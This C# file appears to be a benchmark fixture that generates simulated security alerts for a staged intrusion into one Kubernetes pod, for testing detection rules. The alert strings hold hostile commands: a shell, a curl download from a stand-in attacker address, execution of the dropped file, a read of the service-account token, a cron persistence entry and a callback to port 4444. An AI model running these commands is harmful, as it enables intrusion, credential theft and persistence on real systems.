namespace IncidentMesh.Benchmarks.AlertDay;

/// <summary>Somebody breaks into one replica: shell, download, execution, credentials, a way to stay, and out.</summary>
internal static class Intrusion
{
    public static IEnumerable<Alert> Of(Cluster cluster, DateTimeOffset start)
    {
        var pod = cluster.Of(Day.Victim)[0].Pods[3];
        return
        [
            Step(0, DayRules.Shell, "sh -i"),
            Step(41, DayRules.Download, "curl -so /tmp/.x http://203.0.113.66/x"),
            Step(55, DayRules.DropAndExecute, "/tmp/.x"),
            Step(118, DayRules.TokenRead, "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
            Step(190, DayRules.CronWrite, "sh -c echo '* * * * * /tmp/.x' > /etc/cron.d/x"),
            Step(256, DayRules.Outbound, "/tmp/.x --connect 203.0.113.66:4444"),
        ];

        Alert Step(int second, DayRule rule, string command) => new(start.AddSeconds(second), rule, pod, command, 31_337 + second);
    }
}
